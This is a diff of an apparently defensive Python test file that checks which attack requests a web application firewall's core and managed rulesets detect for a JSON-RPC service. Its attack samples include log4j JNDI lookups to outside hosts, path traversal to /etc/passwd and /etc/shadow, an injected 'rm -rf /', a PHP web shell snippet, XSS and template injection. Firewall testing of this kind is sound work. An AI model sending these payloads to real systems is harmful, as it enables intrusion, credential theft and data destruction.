@@ -61,16 +61,18 @@ class Sample:
     method: str = "POST"
 
     def fields(self) -> RequestFields:
-        """The request as the firewall sees it."""
-        headers = [
+        """The request as the firewall sees it: a client's usual headers, then the sample's own (which replace
+        the usual ones of the same name)."""
+        usual = [
             (b"host", b"rpc.example.com"),
             (b"user-agent", self.user_agent),
             (b"content-type", b"application/json"),
             (b"accept", b"*/*"),
             (b"accept-encoding", b"gzip, deflate"),
             (b"content-length", str(len(self.body)).encode()),
-            *self.headers,
         ]
+        replaced = {name for name, _ in self.headers}
+        headers = [*(header for header in usual if header[0] not in replaced), *self.headers]
         return RequestFields.from_http(
             method=self.method,
             scheme="https",
@@ -205,7 +207,9 @@ BENIGN: tuple[Sample, ...] = (
 
 @dataclass(frozen=True)
 class Attack:
-    """An attack request and whether the Core Ruleset alone at PL1 is expected to see it."""
+    """An attack request and whether the Core Ruleset alone at PL1 (CRS 3.3.4 at its own threshold, 5) is expected
+    to see it. CRS 3.3.4 has no rule for log4j lookups, prototype pollution, template injection or Spring's class
+    loader at PL1: those are the Managed Ruleset's (``core=False``)."""
 
     sample: Sample
     core: bool = True
@@ -227,9 +231,9 @@ ATTACKS: tuple[Attack, ...] = (
     Attack(Sample("xss handler in the query", query="name=%3Cimg%20src=x%20onerror=alert(1)%3E")),
     Attack(Sample("traversal in params", _params("eth_getCode", "../../../../etc/passwd"))),
     Attack(Sample("traversal in the query", query="file=..%2f..%2f..%2fetc%2fshadow")),
-    Attack(Sample("log4j in the user agent", user_agent=b"${jndi:ldap://198.51.100.9:1389/a}")),
+    Attack(Sample("log4j in the user agent", user_agent=b"${jndi:ldap://198.51.100.9:1389/a}"), core=False),
     Attack(Sample("log4j obfuscated in params", _params("eth_call", "${${lower:j}ndi:${lower:l}dap://x.example/a}"))),
-    Attack(Sample("log4j in the referer", headers=((b"referer", b"${jndi:dns://x.example/}"),))),
+    Attack(Sample("log4j in the referer", headers=((b"referer", b"${jndi:dns://x.example/}"),)), core=False),
     Attack(Sample("log4j in any header", headers=((b"x-api-version", b"${jndi:ldap://x.example/a}"),)), core=False),
     Attack(
         Sample(
@@ -254,19 +258,21 @@ ATTACKS: tuple[Attack, ...] = (
         Sample(
             "prototype pollution",
             b'{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"__proto__":{"admin":true}}]}',
-        )
+        ),
+        core=False,
     ),
     Attack(
         Sample("method name injection", b'{"jsonrpc":"2.0","id":1,"method":"eth_call;rm -rf /","params":[]}'),
         core=False,
     ),
     Attack(Sample("php in params", _params("eth_call", "<?php system($_GET['c']); ?>"))),
-    Attack(Sample("template injection in the query", query="name={{7*7}}")),
+    Attack(Sample("template injection in the query", query="name={{7*7}}"), core=False),
     Attack(
         Sample(
             "java class loader in the query",
             query="class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
-        )
+        ),
+        core=False,
     ),
 )
 
@@ -284,10 +290,11 @@ USER_AGENTS: tuple[bytes, ...] = (
     b"Rainbow/1.9.1 (iPhone; iOS 17.5; Scale/3.00)",
 )
 # Request headers of browsers, proxies and SDKs that look busy to a signature: base64 padding before "; ",
-# boundaries of dashes, JSON in a cookie, Link-style angle brackets.
+# runs of dashes, JSON in a cookie, Link-style angle brackets. (A JSON-RPC request is JSON: its content type says so.)
 BUSY_HEADERS: tuple[tuple[bytes, bytes], ...] = (
     (b"accept", b"application/json, text/plain, */*"),
-    (b"content-type", b"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
+    (b"content-type", b"application/json; charset=UTF-8"),
+    (b"x-request-id", b"----WebKitFormBoundary7MA4YWxkTrZu0gW"),
     (b"x-forwarded-for", b"2001:db8::1, 198.51.100.7"),
     (b"cookie", b'__cf_bm=Yk5Gq2b.3x_9ZkqK0.rT-1718000000-1.0.1.1-abcDEF; wagmi.store={"state":{"current":null}}'),
     (b"cookie", b"PHPSESSID=5k3j2h1g; tz=Europe%2FParis; last_seen=2024-06-01T10%3A30%3A00Z; cart=%5B1%2C2%2C3%5D"),
